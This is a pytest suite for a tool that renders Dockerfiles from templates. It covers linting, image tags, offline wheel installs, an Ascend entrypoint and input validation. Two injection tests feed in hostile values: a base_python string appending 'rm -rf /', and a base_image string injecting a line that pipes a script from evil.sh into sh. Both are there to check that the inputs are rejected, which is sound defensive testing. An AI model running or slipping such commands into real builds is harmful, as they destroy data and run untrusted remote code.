"""Dockerfiles rendered from images/*.j2 for every target: lint clean, content-addressed tags, injection-proof."""

import json
import shutil
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest
from reprokit.images import dockerfiles
from reprokit.model.matrix import load_matrix
from reprokit.model.schema import InputError

ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = ROOT / "images"
MATRIX = load_matrix(ROOT / "matrix.yaml")


@pytest.mark.parametrize("name", list(MATRIX.targets))
def test_every_target_renders_and_passes_hadolint(name, tmp_path):
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(dockerfiles.render(TEMPLATES, name, MATRIX.targets[name]))
    hadolint = shutil.which("hadolint") or str(Path(sys.executable).with_name("hadolint"))
    proc = subprocess.run(
        [hadolint, "--config", str(ROOT / ".hadolint.yaml"), str(dockerfile)], capture_output=True, text=True
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    text = dockerfile.read_text()
    assert "USER 1000:1000" in text and "org.opencontainers.image.version" in text
    assert f"torch=={MATRIX.targets[name].pins.torch}" in text


def test_committed_dockerfiles_are_current():
    for name, target in MATRIX.targets.items():
        committed = (ROOT / "images" / "rendered" / f"{name}.Dockerfile").read_text()
        assert committed == dockerfiles.render(TEMPLATES, name, target), f"run `reprokit images` ({name} is stale)"


def test_tag_changes_with_content_and_only_with_content():
    cpu = MATRIX.targets["cpu"]
    tag = dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None)
    assert tag == dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None)
    bumped = cpu.model_copy(update={"pins": cpu.pins.model_copy(update={"torch": cpu.pins.torch + ".post1"})})
    assert dockerfiles.image_tag(TEMPLATES, "cpu", bumped, cpu.base_image, None) != tag
    assert dockerfiles.image_tag(TEMPLATES, "cpu", cpu, "local/debian:bookworm", None) != tag
    assert dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-x.whl"]) != tag
    assert dockerfiles.image_tag(
        TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-x.whl"]
    ) != dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, ["torch-2.13.0+cpu-y.whl"])
    assert dockerfiles.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, None, base_python="3.12") != tag


def test_wheelhouse_installs_offline_only():
    text = dockerfiles.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], wheelhouse=["torch-2.13.0+cpu-x.whl"])
    assert '--no-index --find-links "${WHEELHOUSE_URL}"' in text and "index-url" not in text
    assert "COPY" not in text  # served to the build: never a layer of the image


@pytest.mark.parametrize("name", list(MATRIX.targets))
def test_torch_comes_from_its_own_index_alone_and_the_rest_from_pypi(name):
    target = MATRIX.targets[name]
    text = dockerfiles.render(TEMPLATES, name, target)
    assert "extra-index-url" not in text and "triton==" not in text and "matplotlib" not in text
    torch_line = next(line for line in text.splitlines() if f"torch=={target.pins.torch}" in line)
    assert torch_line.split("pip install ")[1].split() == (
        (["--index-url", target.pins.index_url] if target.pins.index_url else [])
        + [f"torch=={target.pins.torch}", "\\"]
    )
    assert f"python{target.python} -m venv" in text


def test_the_base_python_replaces_the_matrix_python():
    h100 = MATRIX.targets["h100"]
    assert h100.python == "3.12" and "python3.12-venv" in dockerfiles.render(TEMPLATES, "h100", h100)
    text = dockerfiles.render(TEMPLATES, "h100", h100, base_image="local/debian:bookworm", base_python="3.11")
    assert "python3.11 -m venv" in text and "3.12" not in text
    with pytest.raises(InputError, match="--base-python"):
        dockerfiles.render(TEMPLATES, "h100", h100, base_python="3.11; rm -rf /")


def test_ascend_sets_up_cann_at_container_start_and_imports_torch_npu_only_there():
    text = dockerfiles.render(TEMPLATES, "ascend910b", MATRIX.targets["ascend910b"])
    build_lines = [line for line in text.splitlines() if line.startswith("RUN")]
    assert not any("torch_npu" in line for line in build_lines)  # the driver is mounted at run time only
    assert "ENV LD_LIBRARY_PATH" not in text  # the base image's (CANN's) library path stays
    assert "--system-site-packages" in text  # the CANN Python's toolkit dependencies
    (entrypoint,) = [line for line in text.splitlines() if line.startswith("ENTRYPOINT")]
    argv = json.loads(entrypoint[len("ENTRYPOINT") :])
    assert argv[:2] == ["/bin/bash", "-c"] and argv[-1] == "--"
    assert "/usr/local/Ascend/ascend-toolkit/set_env.sh" in argv[2] and 'exec "$@"' in argv[2]


def _entrypoint_on_this_machine(tmp_path: Path) -> list[str]:
    """The Ascend image's ENTRYPOINT, with /usr/local/Ascend moved under tmp_path."""
    text = dockerfiles.render(TEMPLATES, "ascend910b", MATRIX.targets["ascend910b"])
    (entrypoint,) = [line for line in text.splitlines() if line.startswith("ENTRYPOINT")]
    argv = json.loads(entrypoint[len("ENTRYPOINT") :])
    return [arg.replace("/usr/local/Ascend", str(tmp_path / "Ascend")) for arg in argv]


# What CANN's set_env.sh does that matters here: it puts the toolkit's Python packages on PYTHONPATH. The folder it
# adds holds a stand-in for torch_npu (the real one needs an NPU driver), so the self-test passes only if set_env.sh
# was sourced first.
SET_ENV = "export PYTHONPATH={site}${{PYTHONPATH:+:$PYTHONPATH}}\nexport ASCEND_STANDIN_SOURCED=1\n"
STANDIN = "import torch, types\n__version__ = 'standin'\ntorch.npu = types.SimpleNamespace(device_count=lambda: 0)\n"


def _bin_with_python(tmp_path: Path) -> Path:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')  # this interpreter (a venv too)
    (bin_dir / "python").chmod(0o755)
    return bin_dir


def test_the_ascend_entrypoint_sources_cann_then_self_tests_then_runs_the_command(tmp_path):
    site = tmp_path / "Ascend" / "ascend-toolkit" / "latest" / "python" / "site-packages"
    site.mkdir(parents=True)
    (site / "torch_npu.py").write_text(STANDIN)
    (tmp_path / "Ascend" / "ascend-toolkit" / "set_env.sh").write_text(SET_ENV.format(site=site))
    argv = _entrypoint_on_this_machine(tmp_path) + ["bash", "-c", 'echo "ran $1 $ASCEND_STANDIN_SOURCED"', "-", "x"]
    env = {"PATH": f"{_bin_with_python(tmp_path)}:/usr/bin:/bin"}
    proc = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0].startswith("torch ") and "torch_npu standin NPUs visible 0" in proc.stdout
    assert proc.stdout.splitlines()[-1] == "ran x 1"


def test_the_ascend_entrypoint_stops_when_the_self_test_fails(tmp_path):
    argv = _entrypoint_on_this_machine(tmp_path) + ["bash", "-c", "echo ran"]  # no CANN here: no torch_npu
    proc = subprocess.run(
        argv, capture_output=True, text=True, env={"PATH": f"{_bin_with_python(tmp_path)}:/usr/bin:/bin"}, timeout=120
    )
    assert proc.returncode != 0 and "ran" not in proc.stdout and "torch_npu" in proc.stderr


def test_a_base_image_override_cannot_inject_a_line():
    with pytest.raises(InputError, match="one image reference"):
        dockerfiles.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], base_image="debian\nRUN curl evil.sh | sh")


def test_templates_are_strict_about_undefined_values(tmp_path):
    (tmp_path / "cpu.Dockerfile.j2").write_text("FROM {{ base_imag }}\n")
    with pytest.raises(jinja2.UndefinedError):
        dockerfiles.render(tmp_path, "cpu", MATRIX.targets["cpu"])


def test_the_image_holds_every_dependency_of_the_runner_but_the_hosts():
    """The runner inside the container imports what pyproject.toml lists; only rendering and Docker stay outside."""
    import re

    import tomllib

    wanted = {
        re.split(r"[<>=!~ ;\[]", d)[0].lower()
        for d in tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    }
    pinned = {p.split("==")[0].lower() for p in dockerfiles.RUNNER_PACKAGES}
    assert wanted - set(dockerfiles.HOST_ONLY) == pinned
